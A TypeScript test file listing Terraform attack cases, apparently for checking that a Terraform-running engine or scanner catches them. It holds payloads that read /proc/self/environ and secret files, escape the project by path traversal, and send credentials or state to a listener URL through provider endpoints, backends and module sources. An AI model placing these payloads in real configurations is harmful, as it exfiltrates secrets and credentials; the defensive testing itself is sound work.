// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are Terraform code
import type { Attack } from './attack.ts';

const output = (expression: string) => ({ 'main.tf': `output "x" {\n  value = ${expression}\n}\n` });
const seesCanary: Attack['evidence'] = ({ shown, trap }) => shown.includes(trap.canary);
const seesEnvironment: Attack['evidence'] = ({ shown }) => shown.includes('TF_IN_AUTOMATION');
const heard: Attack['evidence'] = ({ trap }) => trap.heard.length > 0;
const heardSecret: Attack['evidence'] = ({ trap }) =>
  trap.heard.some((text) => text.includes('TF_IN_AUTOMATION') || text.includes('testing'));

/** Code that reads or sends what is not its own. If it works, the API shows the data or the listener receives it. */
export const readingAttacks: Attack[] = [
  {
    row: 8,
    name: 'file() reads the environment of the run itself',
    files: () => output('file("/proc/self/environ")'),
    evidence: seesEnvironment,
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 8,
    name: 'the same as base64',
    files: () => output('base64gzip(filebase64("/proc/self/environ"))'),
    evidence: ({ shown }) => /H4sI[A-Za-z0-9+/]{200}/.test(shown),
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 9,
    name: 'fileset() finds the environments of the engine and reads its secret',
    files: () =>
      output(
        '[for f in fileset("/proc", "*/environ") : "found" if can(regex("canary-of-the-engine", try(file("/proc/${f}"), filebase64("/proc/${f}"), "")))]',
      ),
    evidence: ({ shown }) => shown.includes('"found"'),
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 10,
    name: 'file() inside a template file',
    files: (trap) => ({
      ...output('templatefile("${path.module}/t.tftpl", {})'),
      't.tftpl': `x \${file("${trap.secretFile}")}`,
    }),
    evidence: seesCanary,
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 10,
    name: 'core::file()',
    files: (trap) => output(`core::file("${trap.secretFile}")`),
    evidence: seesCanary,
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 10,
    name: 'file() with a comment before its arguments',
    files: (trap) => output(`upper(lower(file /*c*/ ("${trap.secretFile}")))`),
    evidence: ({ shown, trap }) => shown.includes(trap.canary.toUpperCase()),
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 10,
    name: 'file() by a path that leaves the project',
    files: (trap) => output(`file("\${path.module}/../../../../../../../..${trap.secretFile}")`),
    evidence: seesCanary,
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 10,
    name: 'file() inside a heredoc of JSON',
    files: (trap) => ({
      'main.tf.json': JSON.stringify({ output: { x: { value: `\${file("${trap.secretFile}")}` } } }),
    }),
    evidence: seesCanary,
    findings: ['PRE-FILE-FUNCTION'],
  },
  {
    row: 11,
    name: 'an object of a bucket has a file of the machine as its source',
    files: (trap) => ({
      'main.tf': `resource "aws_s3_bucket" "b" {\n  bucket = "loot-${trap.canary}"\n}\nresource "aws_s3_object" "o" {\n  bucket = aws_s3_bucket.b.id\n  key = "o"\n  source = "${trap.secretFile}"\n}\n`,
    }),
    evidence: async ({ stage, trap }) => {
      const object = await stage.aws?.call('s3', { path: `/loot-${trap.canary}/o`, method: 'GET' });
      return object?.includes(trap.canary) === true;
    },
    findings: ['PRE-PATH-ARGUMENT'],
  },
  {
    row: 12,
    name: 'an endpoint of the provider receives its credentials',
    files: (trap) => ({
      'main.tf': `provider "aws" {\n  max_retries = 1\n  endpoints {\n    sts = "${trap.url}"\n  }\n}\ndata "aws_caller_identity" "me" {}\n`,
    }),
    evidence: heard,
    findings: ['PRE-PROVIDER-ARGUMENT'],
  },
  {
    row: 12,
    name: 'a web identity token file posts the environment',
    files: (trap) => ({
      'main.tf': `provider "aws" {\n  max_retries = 1\n  endpoints {\n    sts = "${trap.url}"\n  }\n  assume_role_with_web_identity {\n    role_arn = "arn:aws:iam::123456789012:role/x"\n    web_identity_token_file = "/proc/self/environ"\n  }\n}\ndata "aws_caller_identity" "me" {}\n`,
    }),
    evidence: heardSecret,
    findings: ['PRE-PROVIDER-ARGUMENT'],
  },
  {
    row: 13,
    name: 'the local remote state reads a state by its path',
    files: (trap) => ({
      'main.tf': `data "terraform_remote_state" "s" {\n  backend = "local"\n  config = { path = "${trap.stateFile}" }\n}\noutput "x" {\n  value = data.terraform_remote_state.s.outputs\n}\n`,
    }),
    evidence: seesCanary,
    findings: ['PRE-DATA-SOURCE'],
  },
  {
    row: 13,
    name: 'the http remote state reaches an address of the engine',
    files: (trap) => ({
      'main.tf': `data "terraform_remote_state" "s" {\n  backend = "http"\n  config = { address = "${trap.url}" }\n}\n`,
    }),
    evidence: heard,
    findings: ['PRE-DATA-SOURCE'],
  },
  {
    row: 14,
    name: 'a backend that receives the state',
    files: (trap) => ({
      'main.tf': `terraform {\n  backend "http" {\n    address = "${trap.url}/state"\n  }\n}\nresource "terraform_data" "a" {\n  input = "password"\n}\n`,
    }),
    evidence: ({ trap }) => trap.heard.some((text) => text.includes('password')),
    findings: ['PRE-BACKEND'],
    always: true,
  },
  {
    row: 14,
    name: 'an override file that replaces the backend of the engine',
    files: (trap) => ({
      'main.tf': 'resource "terraform_data" "a" {\n  input = "password"\n}\n',
      'zz_override.tf': `terraform {\n  backend "http" {\n    address = "${trap.url}/state"\n  }\n}\n`,
    }),
    evidence: ({ trap }) => trap.heard.some((text) => text.includes('password')),
    findings: ['PRE-OVERRIDE'],
    always: true,
  },
  {
    row: 14,
    name: 'a local backend that writes into a file of somebody else',
    files: (trap) => ({
      'main.tf': `terraform {\n  backend "local" {\n    path = "${trap.mark}"\n  }\n}\nresource "terraform_data" "a" {}\n`,
    }),
    evidence: ({ trap }) => trap.isMarked(),
    findings: ['PRE-BACKEND'],
    always: true,
  },
  {
    row: 14,
    name: 'a cloud block that calls out',
    files: (trap) => ({
      'main.tf': `terraform {\n  cloud {\n    hostname = "localhost:${new URL(trap.url).port}"\n    organization = "o"\n    workspaces {\n      name = "w"\n    }\n    token = "t"\n  }\n}\n`,
    }),
    evidence: ({ shown }) => /Failed to request discovery document/.test(shown),
    findings: ['PRE-BACKEND'],
    always: true,
  },
  {
    row: 15,
    name: 'a module source makes the machine ask an address',
    files: (trap) => ({ 'main.tf': `module "m" {\n  source = "${trap.url}/m.zip"\n}\n` }),
    evidence: heard,
    findings: ['PRE-MODULE-SOURCE'],
  },
  {
    row: 15,
    name: 'a module of a folder beside the project',
    files: (trap) => ({
      'main.tf': `module "m" {\n  source = "../../../../../../../..${trap.moduleFolder}"\n}\noutput "x" {\n  value = module.m.x\n}\n`,
    }),
    evidence: seesCanary,
    findings: ['PRE-MODULE-SOURCE'],
  },
];
